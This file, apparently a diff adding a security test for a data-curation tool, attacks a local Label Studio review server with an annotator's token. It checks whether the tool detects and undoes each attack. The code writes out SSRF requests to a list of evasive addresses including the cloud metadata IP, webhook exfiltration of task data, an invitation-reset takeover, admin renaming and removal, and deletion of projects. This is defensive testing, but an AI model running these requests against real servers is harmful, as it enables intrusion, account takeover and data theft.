@@ -1,0 +1,266 @@
+"""What an annotator's account can do to a real review server that stands without a proxy, and that it is found.
+
+One server, one annotator, one listener on 127.0.0.1 that is all that an attacker may have there: a back end, a webhook,
+a page. What remains open is open in Label Studio's community edition itself: every account may do everything there.
+"""
+
+from __future__ import annotations
+
+import json
+import threading
+from collections.abc import Iterator
+from contextlib import contextmanager
+from dataclasses import dataclass, field
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import httpx
+from commands import curate
+
+from door_parts.attack import Attack
+
+#: Not the default, so that another server on this machine does not matter.
+PORT = 18270
+
+DOOR = "review server"
+
+#: Addresses of every kind that no server of ours may call; none is a real service that these attacks would reach.
+ELSEWHERE = {
+    "public": "http://93.184.216.34",
+    "public, IPv6": "http://[2606:2800:220:1::1]",
+    "private": "http://192.168.0.1",
+    "private, IPv6": "http://[fd00::1]",
+    "of cloud machines": "http://169.254.169.254",
+    "mapped into IPv6": "http://[::ffff:10.0.0.1]",
+    "another loopback": "http://127.0.0.53",
+    "as one number": "http://3232235521",
+    "every interface": "http://0.0.0.0",
+}
+
+#: What stays possible, and what comes of it.
+FOUND = "named by status, pull, watch and doctor; put back by `review secure`"
+COMMUNITY = "every account may do this in the community edition"
+
+
+@dataclass
+class Listener:
+    """What somebody on 127.0.0.1 was sent, and where."""
+
+    url: str = ""
+    got: list[tuple[str, str]] = field(default_factory=list)
+
+    def bodies(self, path: str) -> list[Any]:
+        """The JSON that was sent to a path."""
+        return [json.loads(body) for where, body in self.got if where == path]
+
+
+def attacks(folder: Path, quick: bool) -> Iterator[Attack]:
+    """Every attack against one server, then whether each was found, put back, and lost nothing."""
+    workspace = _workspace(folder)
+    try:
+        with _listening() as listener, _annotator(workspace, "anna") as anna:
+            project = anna.get("/api/projects").json()["results"][0]["id"]
+            yield from _calls_elsewhere(anna, project, quick=quick)
+            yield from _outlets(anna, project, listener)
+            yield from _accounts(anna, workspace)
+            yield _found_and_put_back(workspace)
+            yield _locked_out(anna, workspace)
+            yield from _deletions(anna, project, workspace)
+    finally:
+        curate("review", "stop", "--workspace", str(workspace))
+
+
+def _workspace(folder: Path) -> Path:
+    """A workspace with pushed records, its own server, and an annotator."""
+    workspace = folder / "w"
+    _done("init", "--workspace", workspace)
+    config = workspace / "curate.toml"
+    config.write_text(f"[review]\nport = {PORT}\nunvalidated = true\n", encoding="utf-8")
+    _done("generate", "--records", "3", "--workspace", workspace)
+    _done("review", "start", "--workspace", workspace)
+    _done("review", "add-annotator", "anna", "--workspace", workspace)
+    _done("review", "push", "--workspace", workspace)
+    return workspace
+
+
+def _calls_elsewhere(anna: httpx.Client, project: int, *, quick: bool) -> Iterator[Attack]:
+    for kind, address in list(ELSEWHERE.items())[: 4 if quick else None]:
+        hook = anna.post("/api/webhooks/", json={"url": f"{address}:9/", "project": project, "send_payload": True})
+        backend = anna.post("/api/ml", json={"url": f"{address}:9", "project": project, "title": "theirs"})
+        page = anna.post(f"/api/projects/{project}/import", data={"url": f"{address}:9/tasks.json"})
+        statuses = {"webhook": hook.status_code, "back end": backend.status_code, "import": page.status_code}
+        open_ways = [way for way, status in statuses.items() if status < 300]
+        yield Attack(DOOR, f"webhook, back end, import: {kind} address", bool(open_ways), f"HTTP {statuses}")
+    bucket = {"project": project, "bucket": "theirs", "title": "theirs", "region_name": "eu-west-1"}
+    bucket |= {"aws_access_key_id": "key", "aws_secret_access_key": "secret"}
+    answer = anna.post("/api/storages/export/s3", json=bucket)
+    why = "the libraries of cloud storages are sent to a proxy that is not there"
+    yield Attack(
+        DOOR, "export storage in a public cloud", answer.status_code < 300, f"HTTP {answer.status_code}: {why}"
+    )
+    answer = anna.post("/api/storages/localfiles", json={"project": project, "path": "/", "title": "theirs"})
+    why = "switched off"
+    yield Attack(
+        DOOR, "files of this machine as a storage", answer.status_code < 300, f"HTTP {answer.status_code}: {why}"
+    )
+
+
+def _outlets(anna: httpx.Client, project: int, listener: Listener) -> Iterator[Attack]:
+    answer = anna.post("/api/ml", json={"url": listener.url, "project": project, "title": "theirs"})
+    yield Attack(DOOR, "live back end by URL on 127.0.0.1", answer.status_code < 300, f"{COMMUNITY}; {FOUND}")
+    tokens = {str(body.get("access_token")) for body in listener.bodies("/setup")}
+    accepted = [token for token in tokens if _opens(anna.base_url, token)]
+    seen = f"{len(tokens)} token at /setup: of the service account, and none that the server takes"
+    yield Attack(DOOR, "use the token that a live back end gets", bool(accepted), seen)
+    hook = {"url": f"{listener.url}/hook", "project": project, "send_payload": True}
+    anna.post("/api/webhooks/", json=hook)
+    task = anna.get("/api/tasks", params={"project": project}).json()["tasks"][0]["id"]
+    anna.post(f"/api/tasks/{task}/annotations/", json={"result": [], "lead_time": 1})
+    got = sum("text" in body.get("task", {}).get("data", {}) for body in listener.bodies("/hook"))
+    yield Attack(DOOR, "webhook with payload on 127.0.0.1", got > 0, f"{got} texts came; {COMMUNITY}; {FOUND}")
+    page = anna.post(f"/api/projects/{project}/import", data={"url": f"{listener.url}/tasks.json"})
+    read = "a page of this machine" in page.text or page.status_code < 300
+    why = "the server calls 127.0.0.1 for our back end and knows no ports; tasks that we did not send are counted"
+    yield Attack(DOOR, "import by URL of a service on 127.0.0.1", read, why)
+    watch = {"url": f"{listener.url}/hints", "project": project, "headers": {"X-Clincurate-Secret": "a secret"}}
+    number = anna.post("/api/webhooks/", json=watch).json().get("id")
+    shown = [hook["headers"] for hook in anna.get("/api/webhooks/").json() if hook["id"] == number]
+    why = f"{COMMUNITY}; whoever has it can make `review watch` pull once more, and nothing else"
+    yield Attack(DOOR, "read the secret of the hints", bool(shown), why)
+
+
+def _accounts(anna: httpx.Client, workspace: Path) -> Iterator[Attack]:
+    me = anna.get("/api/current-user/whoami").json()["id"]
+    steward, organization = 1, 1
+    token = anna.post("/api/invite/reset-token").json().get("token")
+    signed = _signs_up(str(anna.base_url), str(token))
+    yield Attack(DOOR, "reset the invitation and let a stranger sign up", signed, f"{COMMUNITY}; {FOUND}")
+    answer = anna.patch(f"/api/users/{steward}/", json={"first_name": "Anna", "username": "anna"})
+    yield Attack(DOOR, "rename the steward", answer.status_code < 300, f"{COMMUNITY}; {FOUND}")
+    answer = anna.post("/api/users/", json={"email": "made@example.org", "username": "made"})
+    yield Attack(DOOR, "make an account", answer.status_code < 300, f"{COMMUNITY}; {FOUND}")
+    answer = anna.patch(f"/api/organizations/{organization}", json={"created_by": me, "title": "Theirs"})
+    yield Attack(DOOR, "own the organisation", answer.json().get("created_by") == me, "its owner cannot be changed")
+    answer = anna.delete(f"/api/organizations/{organization}/memberships/{steward}/")
+    yield Attack(DOOR, "remove the steward", answer.status_code < 300, f"HTTP {answer.status_code}: its owner only")
+    project = anna.get("/api/projects").json()["results"][0]["id"]
+    answer = anna.patch(
+        f"/api/projects/{project}/", json={"sampling": "Uniform sampling", "show_collab_predictions": False}
+    )
+    yield Attack(DOOR, "change the project's settings", answer.status_code < 300, f"{COMMUNITY}; {FOUND}")
+
+
+def _found_and_put_back(workspace: Path) -> Attack:
+    """Nothing that was done above stays unseen, and one command leaves nothing of it."""
+    named = json.loads(curate("review", "status", "--json", "--workspace", str(workspace)).stdout)["foreign"]
+    pulled = curate("review", "pull", "--json", "--workspace", str(workspace))
+    kinds = {line.partition(":")[0] for line in named}
+    wanted = {"back end", "webhook", "invitation", "account", "organisation", "project setting"}
+    loud = "WARNING" in pulled.stderr and json.loads(pulled.stdout)["foreign"] != []
+    done = json.loads(curate("review", "secure", "--json", "--workspace", str(workspace)).stdout)
+    after = json.loads(curate("review", "status", "--json", "--workspace", str(workspace)).stdout)["foreign"]
+    unseen = sorted(wanted - kinds)
+    left = [line for line in after if not line.startswith("tasks:")]
+    seen = (
+        f"{len(named)} named, put back {done['put_back']}, closed {len(done['closed'])}; unseen {unseen}, left {left}"
+    )
+    return Attack(DOOR, "any of this in silence, or for good", bool(unseen or left or not loud), seen)
+
+
+def _locked_out(anna: httpx.Client, workspace: Path) -> Attack:
+    anna.post("/api/jwt/settings", json={"legacy_api_tokens_enabled": False, "api_tokens_enabled": False})
+    broken = json.loads(curate("review", "status", "--json", "--workspace", str(workspace)).stdout)
+    curate("review", "secure", "--workspace", str(workspace))
+    after = json.loads(curate("review", "status", "--json", "--workspace", str(workspace)).stdout)
+    seen = f"server answered our token: before `review secure` {broken['up']}, after {after['up']}"
+    return Attack(DOOR, "lock the commands out for good", not after["up"], seen)
+
+
+def _deletions(anna: httpx.Client, project: int, workspace: Path) -> Iterator[Attack]:
+    tasks = anna.get("/api/tasks", params={"project": project}).json()["tasks"]
+    before = _human_layers(workspace)
+    gone = anna.delete(f"/api/tasks/{tasks[0]['id']}/").status_code < 300
+    said = json.loads(curate("review", "pull", "--json", "--workspace", str(workspace)).stdout)["deleted"]
+    kept = _human_layers(workspace) == before
+    seen = f"{COMMUNITY}; pull says {said}; what was pulled is {'kept' if kept else 'LOST'}"
+    yield Attack(DOOR, "delete tasks with their answers", gone, seen)
+    gone = anna.delete(f"/api/projects/{project}/").status_code < 300
+    said = json.loads(curate("review", "status", "--json", "--workspace", str(workspace)).stdout)["foreign"]
+    curate("review", "pull", "--workspace", str(workspace))
+    kept = _human_layers(workspace) == before
+    told = [line for line in said if "was deleted" in line]
+    seen = f"{COMMUNITY}; status says {told}; what was pulled is {'kept' if kept else 'LOST'}"
+    yield Attack(DOOR, "delete the project", gone, seen)
+
+
+def _human_layers(workspace: Path) -> dict[str, int]:
+    """What the store has of people, by layer."""
+    from pipeline.workspace import Workspace
+
+    with Workspace.at(workspace).open_store() as store:
+        return {name: count for name, count in store.layer_names().items() if name.startswith("human:")}
+
+
+def _opens(url: object, token: str) -> bool:
+    """Whether a token opens the server, in either way of sending it."""
+    return any(
+        httpx.get(f"{url}/api/projects", headers={"Authorization": f"{way} {token}"}, trust_env=False).status_code < 300
+        for way in ("Token", "Bearer")
+    )
+
+
+def _signs_up(url: str, token: str) -> bool:
+    with httpx.Client(base_url=url, trust_env=False, timeout=60) as stranger:
+        stranger.get("/user/signup/", params={"token": token})
+        form = {"email": "stranger@example.org", "password": "long-enough-1", "allow_newsletters": "false"}
+        headers = {"X-CSRFToken": stranger.cookies.get("csrftoken", ""), "Referer": url}
+        stranger.post("/user/signup/", params={"token": token}, data=form, headers=headers)
+        return stranger.get("/api/projects").status_code < 300
+
+
+@contextmanager
+def _annotator(workspace: Path, name: str) -> Iterator[httpx.Client]:
+    """The annotator's own requests, with the token that the account page shows to everybody of his own."""
+    secrets = json.loads((workspace / "label-studio" / "secrets.json").read_text(encoding="utf-8"))
+    port = json.loads((workspace / "label-studio" / "server.json").read_text(encoding="utf-8"))["port"]
+    headers = {"Authorization": f"Token {secrets['annotators'][name]['token']}"}
+    with httpx.Client(base_url=f"http://127.0.0.1:{port}", headers=headers, trust_env=False, timeout=120) as client:
+        yield client
+
+
+@contextmanager
+def _listening() -> Iterator[Listener]:
+    """A listener that answers as a back end, and has a page that only this machine reads."""
+    listener = Listener()
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_POST(self) -> None:
+            body = self.rfile.read(int(self.headers.get("content-length") or 0))
+            listener.got.append((self.path, body.decode("utf-8", "replace")))
+            self.do_GET()
+
+        def do_GET(self) -> None:
+            content = b'{"status": "UP", "model_version": "theirs", "note": "a page of this machine"}'
+            self.send_response(200)
+            self.send_header("content-length", str(len(content)))
+            self.end_headers()
+            self.wfile.write(content)
+
+        def log_message(self, format: str, *args: object) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    listener.url = f"http://127.0.0.1:{server.server_address[1]}"
+    try:
+        yield listener
+    finally:
+        server.shutdown()
+        server.server_close()
+
+
+def _done(*arguments: object) -> None:
+    done = curate(*map(str, arguments))
+    if done.returncode:
+        raise SystemExit(f"expected curate {arguments[0]} {arguments[1]} to be done: {done.stderr.strip()}")
